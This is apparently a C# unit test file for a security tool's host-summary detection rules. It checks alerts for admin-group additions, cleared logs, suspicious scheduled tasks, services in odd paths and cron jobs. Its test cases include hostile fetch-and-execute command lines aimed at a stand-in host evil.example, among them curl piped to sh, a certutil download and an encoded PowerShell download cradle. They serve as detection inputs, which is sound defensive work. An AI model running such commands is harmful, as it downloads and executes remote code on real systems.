using System.Text;
using Msticnb.Abstractions.Running;
using Msticnb.Host.Testing;
using NUnit.Framework;

namespace Msticnb.Tests.Plugins.AzureSentinel.HostSummary;

/// <summary>Each rule both ways: what it must find, and what it must leave alone.</summary>
public sealed class HostSummaryRuleTests
{
    private static readonly string Encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("Write-Output 'a harmless script'"));

    [TestCase("High", "New", "High")]
    [TestCase("High", "Resolved", "High")]
    [TestCase("Medium", "New", "Medium")]
    [TestCase("High", "Dismissed", null)]
    [TestCase("Low", "New", null)]
    [TestCase("Informational", "New", null)]
    public async Task Alerts_count_by_their_severity(string severity, string status, string? expected)
    {
        var findings = await HostSummaryRun.FindingsAsync("RelatedAlerts", ("AlertName", "Odd logon"), ("Severity", severity), ("Status", status));

        Assert.That(findings.Select(f => f.Severity.ToString()), Is.EqualTo(expected is null ? [] : new[] { expected }));
        if (expected is not null)
            Assert.That(findings[0].Title, Does.Contain("Odd logon").And.Contain("SRV-FIN01"));
    }

    [Test]
    public async Task Bookmarks_are_a_word_with_their_names()
    {
        var findings = await HostSummaryRun.FindingsAsync("RelatedBookmarks", TestTable.Of("BookmarkName", ["Odd service"], ["Odd service"], ["Night logon"]));

        Assert.That(findings.Select(f => (f.Severity, f.Step, f.Title)), Is.EqualTo(new[] { (Severity.Informational, "related_bookmarks", "Analysts have bookmarked SRV-FIN01: Odd service, Night logon.") }));
        Assert.That(findings[0].Rows, Is.EqualTo(new[] { 0L, 1L, 2L }));
        Assert.That(await HostSummaryRun.FindingsAsync("RelatedBookmarks", TestTable.Of("BookmarkName")), Is.Empty);
    }

    [TestCase("curl -s http://evil.example/x | sh", true)]
    [TestCase("sh -c \"wget -qO- http://evil.example/x | bash\"", true)]
    [TestCase("mshta.exe http://evil.example/a.hta", true)]
    [TestCase("curl -s https://updates.example/list -o /var/lib/app/list", false)]
    [TestCase("curl -s https://status.example/health | grep ok", false)]
    [TestCase("powershell.exe -Command Invoke-WebRequest https://updates.example/a.msi -OutFile C:\\Updates\\a.msi", false)]
    [TestCase("certutil.exe -hashfile C:\\Windows\\notepad.exe SHA256", false)]
    [TestCase("mshta.exe C:\\Program Files\\Vendor\\help.hta", false)]
    public async Task A_process_counts_when_it_runs_what_it_fetches(string commandLine, bool expected) =>
        AssertTechnique(await ProcessAsync(commandLine), expected ? "T1105" : null);

    [TestCase(1102L, "T1070.001")]
    [TestCase(4719L, "T1562.002")]
    [TestCase(4657L, null)]
    public async Task Cleared_logs_and_changed_audit_policies_count(long eventId, string? technique) =>
        AssertTechnique(await HostSummaryRun.FindingsAsync("NotableEventsWindows", ("EventID", eventId), ("Account", ""), ("SubjectAccount", "CORP\\x")), technique);

    [TestCase("crit", 1)]
    [TestCase("emerg", 1)]
    [TestCase("err", 0)]
    public async Task Critical_messages_count_low(string severity, int expected)
    {
        var findings = await HostSummaryRun.FindingsAsync("NotableEventsLinux", ("SeverityLevel", severity), ("ProcessName", "kernel"));

        Assert.That(findings.Select(f => f.Severity), Is.EqualTo(Enumerable.Repeat(Severity.Low, expected)));
    }

    [Test]
    public async Task A_new_account_that_becomes_administrator_counts_high_with_both_rows()
    {
        var finding = (await HostSummaryRun.FindingsAsync("AccountActionsWindows", Accounts(
            [4720L, "svc-backup", "S-1-5-21-1-1005", "", "", "mallory"],
            [4722L, "svc-backup", "S-1-5-21-1-1005", "", "", "mallory"],
            [4732L, "Administratoren", "S-1-5-32-544", "-", "S-1-5-21-1-1005", "mallory"]))).Single();

        Assert.That(finding.Severity, Is.EqualTo(Severity.High));
        Assert.That(finding.Title, Is.EqualTo("The new local account svc-backup was made an administrator by mallory."));
        Assert.That(finding.Rows, Is.EqualTo(new[] { 0L, 2L }));
        Assert.That(finding.Techniques, Is.EqualTo(new[] { "T1136.001", "T1098" }));
    }

    [Test]
    public async Task An_old_account_that_becomes_administrator_counts_medium()
    {
        var finding = (await HostSummaryRun.FindingsAsync("AccountActionsWindows", Accounts(
            [4720L, "other", "S-1-5-21-1-1006", "", "", "ann"],
            [4732L, "Administrators", "S-1-5-32-544", "-", "S-1-5-21-1-1005", "mallory"]))).Single();

        Assert.That(finding.Severity, Is.EqualTo(Severity.Medium));
        Assert.That(finding.Techniques, Is.EqualTo(new[] { "T1098" }));
    }

    [Test]
    public async Task A_new_account_in_an_ordinary_group_is_left_alone() => Assert.That(
        await HostSummaryRun.FindingsAsync("AccountActionsWindows", Accounts(
            [4720L, "ann", "S-1-5-21-1-1005", "", "", "helpdesk"],
            [4732L, "Users", "S-1-5-32-545", "-", "S-1-5-21-1-1005", "helpdesk"])),
        Is.Empty);

    [Test]
    public async Task A_new_user_in_a_group_of_administrators_counts_high_and_an_old_one_medium()
    {
        var rows = TestTable.Of(
            "UserGroupAction User Group SyslogMessage",
            ["Add", "svc-upd8", "", "new user: name=svc-upd8, UID=1007, GID=1007"],
            ["Modify", "svc-upd8", "sudo", "add 'svc-upd8' to group 'sudo'"],
            ["Modify", "ann", "wheel", "user ann added by root to group wheel"]);

        var findings = await HostSummaryRun.FindingsAsync("AccountActionsLinux", rows);

        Assert.That(findings.Select(f => (f.Severity, f.Title)), Is.EqualTo(new[]
        {
            (Severity.High, "The new user svc-upd8 was added to the group sudo."),
            (Severity.Medium, "The user ann was added to the group wheel."),
        }));
    }

    [TestCase("Modify", "ann", "developers", "add 'ann' to group 'developers'")]
    [TestCase("Modify", "ann", "sudo", "delete 'ann' from group 'sudo'")]
    [TestCase("Add", "ann", "", "new user: name=ann, UID=1007, GID=1007")]
    public async Task Ordinary_changes_of_users_are_left_alone(string action, string user, string group, string message) => Assert.That(
        await HostSummaryRun.FindingsAsync("AccountActionsLinux", ("UserGroupAction", action), ("User", user), ("Group", group), ("SyslogMessage", message)),
        Is.Empty);

    [TestCase(4698L, "powershell.exe", "-enc ENCODED", true)]
    [TestCase(4702L, "powershell.exe", "-w hidden -ep bypass -f C:\\Scripts\\x.ps1", true)]
    [TestCase(4698L, "wscript.exe", "C:\\Users\\Public\\a.vbs", true)]
    [TestCase(4698L, "cmd.exe", "/c certutil -urlcache -f http://evil.example/a a", true)]
    [TestCase(4698L, "C:\\Program Files\\Vendor\\update.exe", "/silent", false)]
    [TestCase(4698L, "powershell.exe", "-File C:\\Scripts\\Inventory.ps1", false)]
    [TestCase(4699L, "powershell.exe", "-enc ENCODED", false)]
    public async Task Tasks_that_run_hidden_scripts_count(long eventId, string command, string arguments, bool expected) => AssertTechnique(
        await HostSummaryRun.FindingsAsync("ScheduledTasksWindows", ("EventID", eventId), ("Type", "Scheduled Task"), ("Service", "\\Updater"), ("Command", command), ("Arguments", arguments.Replace("ENCODED", Encoded, StringComparison.Ordinal))),
        expected ? "T1053.005" : null);

    [TestCase("%COMSPEC% /c powershell -enc x", true)]
    [TestCase("C:\\Windows\\Temp\\x.exe", true)]
    [TestCase("C:\\ProgramData\\upd\\svc.exe", true)]
    [TestCase("\"C:\\Program Files\\Vendor\\agent.exe\"", false)]
    [TestCase("%SystemRoot%\\System32\\svchost.exe -k netsvcs", false)]
    [TestCase("", false)]
    public async Task Services_from_unusual_places_count(string command, bool expected) => AssertTechnique(
        await HostSummaryRun.FindingsAsync("ScheduledTasksWindows", ("EventID", 7045L), ("Type", "Service"), ("Service", command), ("Command", command)),
        expected ? "T1543.003" : null);

    [TestCase("curl -s http://evil.example/x | sh", "root", "", "T1053.003")]
    [TestCase("/usr/bin/curl -s https://cdn.example/u -o /tmp/.upd", "root", "", "T1105")]
    [TestCase("wget -q https://cdn.example/u -O /dev/shm/u", "root", "", "T1105")]
    [TestCase("curl -s https://updates.example/list -o /var/lib/app/list", "root", "", null)]
    [TestCase("", "www-data", "REPLACE", "T1053.003")]
    [TestCase("run-parts --report /etc/cron.hourly", "root", "", null)]
    [TestCase("", "root", "REPLACE", null)]
    [TestCase("", "www-data", "BEGIN EDIT", null)]
    public async Task Cron_counts_when_it_fetches_code_or_a_service_changes_it(string command, string user, string edit, string? technique) => AssertTechnique(
        await HostSummaryRun.FindingsAsync("ScheduledTasksLinux", ("Type", "Cron job"), ("CMD", command), ("CronUser", user), ("EditStatus", edit)),
        technique);

    [TestCase("sysupd", 1)]
    [TestCase("ann", 0)]
    public async Task A_crontab_counts_when_its_user_is_new(string user, int expected)
    {
        var backend = new FakeBackend()
            .Answer("ScheduledTasksLinux", TestTable.Of("Type CMD CronUser EditStatus", ["Crontab change", "", user, "REPLACE"], ["Crontab change", "", user, "BEGIN EDIT"]))
            .Answer("AccountActionsLinux", TestTable.Of("UserGroupAction User Group SyslogMessage", ["Add", "sysupd", "", "new user: name=sysupd"], ["Modify", "ann", "", "change user 'ann' password"]));

        var findings = (await HostSummaryRun.RunAsync(backend)).Findings;

        Assert.That(findings.Select(f => (f.Severity, f.Step)), Is.EqualTo(Enumerable.Repeat((Severity.High, "scheduled_tasks"), expected)));
        Assert.That(findings.SelectMany(f => f.Rows), Is.EqualTo(Enumerable.Repeat(0L, expected)), "reading a crontab changes nothing");
    }

    [Test]
    public async Task Encoded_PowerShell_counts_medium_and_an_encoded_cradle_high()
    {
        var cradle = Convert.ToBase64String(Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"));

        var harmless = await ProcessAsync($"powershell.exe -enc {Encoded}");
        var bad = await ProcessAsync($"powershell.exe -enc {cradle}");

        Assert.That(harmless.Select(f => f.Severity), Is.EqualTo(new[] { Severity.Medium }));
        Assert.That(bad.Select(f => f.Severity), Is.EqualTo(new[] { Severity.High, Severity.Medium }));
    }

    [TestCase(@"C:\Office16\WINWORD.EXE", "T1566.001")]
    [TestCase(@"C:\Windows\explorer.exe", null)]
    public async Task A_document_program_that_starts_a_shell_counts(string parent, string? technique) =>
        AssertTechnique(await ProcessAsync("cmd.exe /c dir", @"C:\Windows\System32\cmd.exe", parent), technique);

    [Test]
    public async Task Two_agents_in_the_range_are_a_word_and_an_old_one_is_none()
    {
        var two = await HostSummaryRun.FindingsAsync("Heartbeat", TestTable.Of("Computer SourceComputerId BeatsInRange:long", ["SRV-FIN01", "a", 5L], ["SRV-FIN01", "b", 3L]));
        var old = await HostSummaryRun.FindingsAsync("Heartbeat", TestTable.Of("Computer SourceComputerId BeatsInRange:long", ["SRV-FIN01", "a", 5L], ["SRV-FIN01", "b", 0L]));

        Assert.That(two.Select(f => (f.Severity, f.Step)), Is.EqualTo(new[] { (Severity.Informational, "heartbeat") }));
        Assert.That(old, Is.Empty);
    }

    [TestCase(0L, true, 1)]
    [TestCase(5L, true, 0)]
    [TestCase(0L, false, 0)]
    public async Task A_silent_agent_is_a_word_when_the_host_writes(long beats, bool writes, int expected)
    {
        var backend = new FakeBackend()
            .Answer("Heartbeat", TestTable.Of("Computer SourceComputerId BeatsInRange:long", ["SRV-FIN01", "a", beats]))
            .Answer("SummaryWindows", writes ? TestTable.Of("EventID:int count_:long", [4624, 3L]) : TestTable.Of("EventID:int count_:long"));

        Assert.That((await HostSummaryRun.RunAsync(backend)).Findings, Has.Count.EqualTo(expected));
    }

    [Test]
    public async Task A_workspace_without_heartbeats_says_nothing_about_the_agent() =>
        Assert.That(await HostSummaryRun.FindingsAsync("SummaryWindows", TestTable.Of("EventID:int count_:long", [4624, 3L])), Is.Empty);

    private static Task<IReadOnlyList<Finding>> ProcessAsync(string commandLine, string image = @"C:\Windows\powershell.exe", string parent = @"C:\Windows\explorer.exe") =>
        HostSummaryRun.FindingsAsync("ProcessesWindows", ("TimeGenerated", TestTable.At("10:00")), ("Computer", "SRV-FIN01"), ("NewProcessId", "0x10"), ("NewProcessName", image), ("ProcessId", "0x4"), ("ParentProcessName", parent), ("CommandLine", commandLine));

    private static Microsoft.Data.Analysis.DataFrame Accounts(params object?[][] rows) =>
        TestTable.Of("EventID:long TargetUserName TargetSid MemberName MemberSid SubjectUserName", rows);

    private static void AssertTechnique(IReadOnlyList<Finding> findings, string? technique)
    {
        if (technique is null)
            Assert.That(findings, Is.Empty);
        else
            Assert.That(findings.Single().Techniques, Does.Contain(technique));
    }
}
